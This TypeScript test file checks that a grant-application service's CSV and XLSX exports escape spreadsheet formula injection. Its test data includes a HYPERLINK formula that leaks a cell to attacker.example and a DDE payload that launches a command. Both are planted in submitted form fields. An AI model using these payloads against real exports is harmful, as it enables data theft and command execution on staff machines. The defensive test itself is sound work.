import { randomUUID } from 'node:crypto';
import { Workbook, ValueType } from 'exceljs';
import { csvCell } from '../../common/csv';
import { type ContractHarness, openContractHarness } from '../support/contractHarness';
import { samplePdf } from '../support/samplePdf';
import { staffHeaders } from '../support/staffSession';
import { freshBusinessId } from '../support/businessIds';

/**
 * Formula injection: a citizen's text beginning with "=" went into the
 * handler's round CSV as is, and a spreadsheet would run it. Now every CSV
 * cell that starts like a formula is written as text, and XLSX cells are strings.
 */

const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Avaa liite")';
const DDE = "=cmd|' /C calc'!A0";
const HANDLER = () => staffHeaders(harness.baseUrl, 'handler');

let harness: ContractHarness;
const started: string[] = [];
beforeAll(async () => {
  harness = await openContractHarness('csv-injection');
});
afterAll(async () => {
  for (const id of started)
    await harness.stack.client.workflow
      .getHandle(id)
      .terminate('test finished')
      .catch(() => undefined);
  await harness?.close();
});

it('escapes cells that start with =, +, -, @, a tab or a carriage return (OWASP), and leaves other text alone', () => {
  expect(csvCell('=1+1', ';')).toBe(`"'=1+1"`);
  expect(csvCell('+358 40 123', ';')).toBe(`"'+358 40 123"`);
  expect(csvCell('-2+3', ',')).toBe(`"'-2+3"`);
  expect(csvCell('@SUM(A1)', ',')).toBe(`"'@SUM(A1)"`);
  expect(csvCell('\t=1', ',')).toBe(`"'\t=1"`);
  expect(csvCell('\r=1', ',')).toBe(`"'\r=1"`);
  expect(csvCell(DDE, ';')).toBe(`"'=cmd|' /C calc'!A0"`);
  expect(csvCell('Kesäleiri', ';')).toBe('Kesäleiri');
  expect(csvCell('a;b', ';')).toBe('"a;b"');
  expect(csvCell(-12.5, ';')).toBe('-12.5');
});

it("writes a citizen's =HYPERLINK(…) and =cmd|… as text in the handler's round CSV and XLSX", async () => {
  const roundId = `csv-${randomUUID().slice(0, 8)}`;
  const response = await harness
    .api()
    .post('/api/forms/avustushakemus/applications')
    .send({
      roundId,
      language: 'fi',
      attachments: [
        {
          field: 'budget',
          fileName: 'budget.pdf',
          contentType: 'application/pdf',
          contentBase64: (await samplePdf(1, 'budget')).toString('base64'),
        },
      ],
      values: {
        associationName: DDE,
        businessId: freshBusinessId(),
        street: 'Partiotie 3',
        postalCode: '33100',
        city: 'Tampere',
        contactName: '@Liisa',
        email: `csv-${randomUUID().slice(0, 8)}@example.fi`,
        purpose: HYPERLINK,
        amountApplied: '1500,00',
        budgetTotal: '8000',
        iban: 'FI21 1234 5600 0007 85',
      },
    });
  if (response.status === 201) started.push(response.body.applicationId);
  expect(response.status).toBe(201);

  const csv = await harness
    .api()
    .get(`/api/rounds/${roundId}/export/avustushakemus.csv`)
    .set(await HANDLER());
  expect(csv.status).toBe(200);
  const cells = csv.text.replace(/^\ufeff/, '').split('\r\n')[1];
  expect(cells).toContain(`"'=cmd|' /C calc'!A0"`);
  expect(cells).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Avaa liite"")"`);
  expect(cells).toContain(`'@Liisa`);
  // No cell of the file starts a formula.
  for (const line of csv.text.replace(/^\ufeff/, '').split('\r\n')) {
    for (const cell of line.split(';')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
  }

  const xlsx = await harness
    .api()
    .get(`/api/rounds/${roundId}/export/avustushakemus.xlsx`)
    .set(await HANDLER())
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
  expect(xlsx.status).toBe(200);
  const workbook = new Workbook();
  const body = xlsx.body as Buffer;
  await workbook.xlsx.load(body.buffer.slice(body.byteOffset, body.byteOffset + body.length) as ArrayBuffer);
  const row = workbook.worksheets[0].getRow(2);
  const texts: { value: unknown; type: ValueType }[] = [];
  row.eachCell((cell) => texts.push({ value: cell.value, type: cell.type }));
  expect(texts).toContainEqual({ value: DDE, type: ValueType.String });
  expect(texts).toContainEqual({ value: HYPERLINK, type: ValueType.String });
  expect(texts.some((cell) => cell.type === ValueType.Formula)).toBe(false);
});
